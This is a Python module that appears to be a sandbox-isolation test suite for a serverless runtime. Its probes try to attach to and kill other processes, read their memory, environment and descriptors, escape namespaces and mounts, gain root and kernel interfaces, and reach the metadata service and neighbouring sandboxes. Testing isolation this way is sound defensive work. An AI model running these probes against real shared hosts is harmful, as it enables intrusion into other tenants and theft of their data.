"""The attacks. Each returns what it got, or raises what stopped it; the same code runs on the host and in a function.

On the host: `python3 attacks.py NAME FACTS`, where the facts are JSON. In a function they are the event.
"""

import ctypes
import json
import os
import platform
import resource
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
import traceback

import api_attacks  # noqa: F401
import load_attacks  # noqa: F401
import network
from outcome import Stopped, attack, attacks, other_pids

libc = ctypes.CDLL(None, use_errno=True)
MARK = b"s3cr3t" + b"-of-"

CALLS = {
    "x86_64": {
        "mount_setattr": 442,
        "add_key": 248,
        "bpf": 321,
        "finit_module": 313,
        "keyctl": 250,
        "kexec_load": 246,
        "perf_event_open": 298,
        "ptrace": 101,
        "swapon": 167,
        "syslog": 103,
        "userfaultfd": 323,
    },
    "aarch64": {
        "mount_setattr": 442,
        "add_key": 217,
        "bpf": 280,
        "finit_module": 273,
        "keyctl": 219,
        "kexec_load": 104,
        "perf_event_open": 241,
        "ptrace": 117,
        "swapon": 224,
        "syslog": 116,
        "userfaultfd": 282,
    },
}[platform.machine()]
CALLS.update(io_uring_setup=425, fsopen=430, pidfd_open=434, pidfd_getfd=438, memfd_secret=447)

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096


def checked(result, what):
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), what)
    return result


def call(name, *arguments):
    pointers = [a if isinstance(a, (ctypes.Array, bytes, type(None))) else ctypes.c_long(a) for a in arguments]
    return checked(libc.syscall(ctypes.c_long(CALLS[name]), *pointers), name)


def reached(name, *arguments):
    """A call with arguments that make no sense: the kernel says so only to those who may make it."""
    try:
        call(name, *arguments)
    except OSError as error:
        if error.errno not in (9, 14, 22):  # EBADF, EFAULT, EINVAL
            raise
        return "%s is open: %s" % (name, error.strerror)
    return "%s is open" % name


def in_child(work):
    """Does the work in a child, so that what it changes of itself ends with it."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            result = {"got": work()}
        except BaseException as error:
            result = {"stopped": str(error)}
        os.write(writing, json.dumps(result).encode())
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading) as answer:
        text = answer.read()
    os.waitpid(child, 0)
    result = json.loads(text) if text else {"stopped": "the kernel killed it"}
    if "stopped" in result:
        raise Stopped(result["stopped"])
    return result["got"]


# ---- Other processes


@attack
def ptrace(facts):
    failures = []
    for pid in [facts["bait"], *other_pids()]:
        try:
            call("ptrace", 16, pid, 0, 0)  # PTRACE_ATTACH
        except OSError as error:
            failures.append("%d: %s" % (pid, error.strerror))
        else:
            os.waitpid(pid, 0x40000000)  # __WALL
            call("ptrace", 17, pid, 0, 0)  # PTRACE_DETACH
            return "attached to process %d" % pid
    raise Stopped("; ".join(failures))


@attack
def kill_outside(facts):
    os.kill(facts["bait"], 9)
    return "killed process %d" % facts["bait"]


@attack
def signal_every_pid(facts):
    """Signal 0 asks only whether a signal would be delivered."""
    own = {os.getpid(), os.getppid()}
    hit = []
    for pid in range(1, 1 << 16):
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        if pid not in own and not is_thread_of(pid, own):
            hit.append(pid)
    if not hit:
        raise Stopped("of 65535 process ids none but its own")
    return "may signal %d processes" % len(hit)


def is_thread_of(pid, own):
    try:
        with open("/proc/%d/status" % pid) as status:
            return any(line.startswith("Tgid:") and int(line.split()[1]) in own for line in status)
    except OSError:
        return False


@attack
def memory_of_others(facts):
    return open_of_any(facts, "mem", "r+b")


@attack
def root_of_others(facts):
    return list_of_any(facts, "root")


@attack
def descriptors_of_others(facts):
    return list_of_any(facts, "fd")


def open_of_any(facts, name, mode):
    failure = None
    for pid in [facts["victim"], *other_pids()]:
        try:
            with open("/proc/%d/%s" % (pid, name), mode):
                return "opened /proc/%d/%s" % (pid, name)
        except OSError as error:
            failure = error
    raise failure


def list_of_any(facts, name):
    failure = None
    for pid in [facts["victim"], *other_pids()]:
        try:
            return "%d entries in /proc/%d/%s" % (len(os.listdir("/proc/%d/%s" % (pid, name))), pid, name)
        except OSError as error:
            failure = error
    raise failure


@attack
def steal_descriptor(facts):
    failure = None
    for pid in [facts["victim"], *other_pids()]:
        try:
            descriptor = call("pidfd_open", pid, 0)
            stolen = call("pidfd_getfd", descriptor, 1, 0)
            return "has descriptor 1 of process %d as %d" % (pid, stolen)
        except OSError as error:
            failure = error
    raise failure


# ---- Namespaces, mounts, devices


@attack
def mount(facts):
    target = os.path.join(facts["scratch"], "mount")
    os.makedirs(target, exist_ok=True)
    checked(libc.mount(b"none", target.encode(), b"tmpfs", 0, None), "mount")
    return "a tmpfs at " + target


@attack
def remount_writable(facts):
    checked(libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None), "mount")
    return "/ is writable"


@attack
def new_mount_interface(facts):
    return "descriptor %d of a new file system" % call("fsopen", b"tmpfs", 0)


@attack
def unshare_user(facts):
    return in_child(lambda: checked(libc.unshare(CLONE_NEWUSER), "unshare") or "a user namespace of its own")


@attack
def unshare_mounts_and_network(facts):
    return in_child(lambda: checked(libc.unshare(CLONE_NEWNS | CLONE_NEWNET), "unshare") or "namespaces of its own")


@attack
def setns(facts):
    failure = None
    for pid in [facts["victim"], *other_pids()]:
        try:
            with open("/proc/%d/ns/net" % pid) as namespace:
                return in_child(lambda: checked(libc.setns(namespace.fileno(), 0), "setns") or "joined %d" % pid)
        except OSError as error:
            failure = error
    raise failure


@attack
def chroot(facts):
    return in_child(lambda: os.chroot(facts["scratch"]) or "a root of its own")


@attack
def device_node(facts):
    path = os.path.join(facts["scratch"], "device")
    os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 5))
    os.unlink(path)
    return "made a device"


@attack
def kernel_memory(facts):
    with open("/proc/kcore", "rb") as memory:
        if memory.read(4) != b"\x7fELF":
            raise Stopped("/proc/kcore is empty")
    return "reads the kernel's memory"


@attack
def kernel_log(facts):
    for path in ("/dev/kmsg", "/proc/kmsg"):
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError as error:
            failure = error
        else:
            if os.fstat(descriptor).st_rdev != os.makedev(1, 3):
                return "opened " + path
            failure = Stopped(path + " is /dev/null")
    raise failure


@attack
def sysrq(facts):
    descriptor = os.open("/proc/sysrq-trigger", os.O_WRONLY)
    status = os.fstat(descriptor)
    if stat.S_ISCHR(status.st_mode) and status.st_rdev == os.makedev(1, 3):
        raise Stopped("it is /dev/null")
    return "may press the magic keys"


@attack
def fixed_addresses(facts):
    """Programs that it starts would have their memory at the same addresses each time."""
    in_child(lambda: checked(libc.personality(ctypes.c_ulong(0x0040000)), "personality"))  # ADDR_NO_RANDOMIZE
    return "addresses are not random any more"


@attack
def kernel_settings(facts):
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "may name the program that gets core dumps"


@attack
def cgroups(facts):
    with open("/proc/mounts") as mounts:
        places = [line.split()[1] for line in mounts if line.split()[2] in ("cgroup", "cgroup2")]
    if not places:
        places = ["/sys/fs/cgroup"]
    path = os.path.join(places[0], "hearth-attack-%d" % os.getpid())
    os.mkdir(path)
    os.rmdir(path)
    return "made " + path


@attack
def let_others_die(facts):
    def safer():
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("0")
        return "not the first to be killed when memory runs out"

    return in_child(safer)


# ---- Rights


@attack
def setuid_program(facts):
    """A copy of id with the setuid bit, run as a user other than its owner."""
    path = os.path.join(facts["scratch"], "suid-id")
    subprocess.run(["cp", "/usr/bin/id", path], check=True)
    os.chmod(path, 0o4755)
    user = {"user": 65534, "group": 65534} if os.geteuid() == 0 else {}
    text = subprocess.run([path], capture_output=True, text=True, cwd="/", **user).stdout
    if "euid=" not in text:
        raise Stopped("it runs as " + text.split()[0])
    return text.strip()


@attack
def root_by_setuid(facts):
    os.setresuid(0, 0, 0)
    return "uid 0"


@attack
def real_time(facts):
    return in_child(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or "before all others")


@attack
def more_priority(facts):
    return in_child(lambda: "nice %d" % os.nice(-5))


@attack
def raise_limits(facts):
    def more():
        resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
        files = [open("/dev/null") for _ in range(10000)]
        return "%d open files" % len(files)

    return in_child(more)


@attack
def finit_module(facts):
    return reached("finit_module", -1, b"", 0)


@attack
def kexec(facts):
    return reached("kexec_load", 0, 17, None, 0xFFFF0000)


@attack
def swapon(facts):
    return reached("swapon", None, 0)


@attack
def kernel_ring(facts):
    return "%d bytes of the kernel's log" % call("syslog", 10, None, 0)


# ---- Parts of the kernel with a history


@attack
def io_uring(facts):
    return "ring %d" % call("io_uring_setup", 1, ctypes.create_string_buffer(120))


@attack
def bpf(facts):
    # BPF_MAP_CREATE: an array of one value.
    return "map %d" % call("bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1), 128), 128)


@attack
def keyring_add(facts):
    return "key %d" % call("add_key", b"user", b"hearth-attack", b"x", 1, -1)  # in the thread's keyring


@attack
def keyring_session(facts):
    return "keyring %d" % call("keyctl", 0, -3, 1)  # KEYCTL_GET_KEYRING_ID of the session


@attack
def perf_events(facts):
    attributes = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0), 112)
    return "event %d" % call("perf_event_open", attributes, -1, 0, -1, 0)


@attack
def userfaultfd(facts):
    return "descriptor %d" % call("userfaultfd", 0)


@attack
def fanotify(facts):
    return "descriptor %d" % checked(libc.fanotify_init(0, 0), "fanotify_init")


@attack
def file_handles(facts):
    """Handles name files by number, past the directories that hide them."""
    handle = ctypes.create_string_buffer(struct.pack("II", 128, 0), 136)
    number = ctypes.c_int()
    checked(libc.name_to_handle_at(-100, b"/usr", handle, ctypes.byref(number), 0), "name_to_handle_at")
    root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    return "descriptor %d" % checked(libc.open_by_handle_at(root, handle, 0), "open_by_handle_at")


# ---- What belongs to others


@attack
def environment_of_others(facts):
    read = 0
    for pid in [facts["victim"], *other_pids()]:
        try:
            with open("/proc/%d/environ" % pid, "rb") as environment:
                text = environment.read()
        except OSError:
            continue
        read += 1
        if MARK in text:
            return "the victim's variables, from process %d" % pid
    raise Stopped("no process but its own to be read, of %d" % read)


@attack
def tmp_of_others(facts):
    for pid in [facts["victim"], *other_pids()]:
        try:
            with open("/proc/%d/root/tmp/secret" % pid, "rb") as file:
                if MARK in file.read():
                    return "the victim's /tmp, by process %d" % pid
        except OSError:
            continue
    with open("/tmp/secret", "rb") as file:
        return file.read().decode()


@attack
def code_of_others(facts):
    return search(os.path.join(facts["data"], "code"), MARK)


@attack
def logs_of_others(facts):
    return search(os.path.join(facts["data"], "logs"), b"START RequestId")


@attack
def store(facts):
    return search(facts["data"], b"SQLite format 3")


def search(top, wanted):
    seen = 0
    for prefix in ("", "/proc/1/root", "/proc/self/cwd/../.."):
        for folder, _, names in os.walk(prefix + top):
            for name in names:
                seen += 1
                with open(os.path.join(folder, name), "rb") as file:
                    if wanted in file.read(1 << 20):
                        return "read " + os.path.join(folder, name)
    raise Stopped("no such folder" if seen == 0 else "nothing in %d files" % seen)


@attack
def write_shared_files(facts):
    """What all sandboxes see of the host must not change for the others."""
    failure = None
    for path in ("/usr/lib/hearth-attack", "/var/task/hearth-attack", "/etc/hearth-attack", "/var/runtime/hearth-attack"):
        try:
            open(path, "x").close()
            os.unlink(path)
            return "wrote " + path
        except OSError as error:
            failure = error
    raise failure


# ---- Networks


def sockets_of(family, kind, protocol=0):
    with socket.socket(family, kind, protocol) as made:
        return "socket %d" % made.fileno()


@attack
def raw_socket(facts):
    return sockets_of(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack
def packet_socket(facts):
    return sockets_of(socket.AF_PACKET, socket.SOCK_RAW, 0x300)


@attack
def netfilter_socket(facts):
    return sockets_of(socket.AF_NETLINK, socket.SOCK_RAW, 12)


@attack
def audit_socket(facts):
    return sockets_of(socket.AF_NETLINK, socket.SOCK_RAW, 9)


@attack
def another_address(facts):
    """To pose as another sandbox."""
    done = subprocess.run(["ip", "address", "add", "198.18.77.77/32", "dev", "lo"], capture_output=True, text=True)
    if done.returncode != 0:
        raise Stopped(done.stderr.strip())
    return "has the address 198.18.77.77"


@attack
def host_services(facts):
    addresses = [*facts["addresses"], *gateways()]
    return network.greeted([(address, facts["port"]) for address in addresses])


@attack
def host_abstract_socket(facts):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + facts["abstract"])
        return client.recv(100).decode()


def gateways():
    with open("/proc/net/route") as routes:
        fields = [line.split() for line in routes][1:]
    return [socket.inet_ntoa(struct.pack("<I", int(field[2], 16))) for field in fields if field[2] != "00000000"]


def within_reach(facts):
    """Outside, root goes to where the victim's network is."""
    if facts["outside"]:
        checked(libc.setns(os.open("/proc/%d/ns/net" % facts["victim"], os.O_RDONLY), 0), "setns")


@attack
def other_sandbox(facts):
    within_reach(facts)
    return network.greeted([(facts["victimAddress"], facts["victimPort"])])


@attack
def other_runtime_api(facts):
    within_reach(facts)
    return ping("127.0.0.1" if facts["outside"] else facts["victimAddress"])


def ping(address):
    with socket.create_connection((address, 9001), 1) as connection:
        connection.settimeout(1)
        connection.sendall(b"GET /2018-06-01/ping HTTP/1.1\r\nHost: x\r\n\r\n")
        return "it answers: " + connection.recv(1000).decode().splitlines()[0]


@attack
def metadata(facts):
    if facts["outside"]:
        network.serve_metadata()
    return network.greeted([("169.254.169.254", 80)])


@attack
def private_networks(facts):
    """Addresses of networks that are not public; outside one of them is ours."""
    if facts["outside"]:
        network.serve_metadata()
    hosts = ["10.0.0.1", "172.16.0.1", "192.168.0.1", "192.168.1.1", "100.64.0.1", "169.254.169.254", "198.18.0.1"]
    return network.greeted([(host, 80) for host in hosts])


# ---- What the kernel counts for each user


held = []


@attack
def inotify_instances(facts):
    """The kernel gives each user of the host a hundred or so."""
    try:
        while len(held) < facts["count"]:
            held.append(checked(libc.inotify_init1(0), "inotify_init1"))
    except OSError as error:
        raise Stopped("%s after %d" % (error.strerror, len(held)))
    return "holds %d" % len(held)


# ---- Static programs, which Python could not write


def probe(facts, name):
    path = os.path.join(facts["scratch"], "probe-" + name)
    shutil.copyfile(os.path.join(facts["code"], "probe"), path)
    os.chmod(path, 0o755)
    done = subprocess.run([path, name], capture_output=True, text=True, timeout=20)
    if done.returncode < 0:
        raise Stopped("killed by " + signal.Signals(-done.returncode).name)
    if done.returncode != 0:
        raise Stopped(done.stdout.strip())
    return done.stdout.strip()


for each in ("int80", "clone3"):
    attacks[each] = lambda facts, name=each: probe(facts, name)


def run(name, facts):
    try:
        return {"worked": True, "how": attacks[name](facts)}
    except Stopped as stopped:
        return {"worked": False, "how": str(stopped)}
    except OSError as error:
        return {"worked": False, "how": error.strerror or str(error)}
    except (MemoryError, subprocess.SubprocessError) as error:
        return {"worked": False, "how": repr(error)}
    except Exception:
        return {"broken": traceback.format_exc()}


def handler(facts, context):
    facts["requestId"] = context.aws_request_id
    facts["scratch"] = "/tmp"
    facts["code"] = "/var/task"
    facts["outside"] = False
    return run(facts["attack"], facts)


if __name__ == "__main__":
    print(json.dumps(run(sys.argv[1], json.loads(sys.argv[2]))))
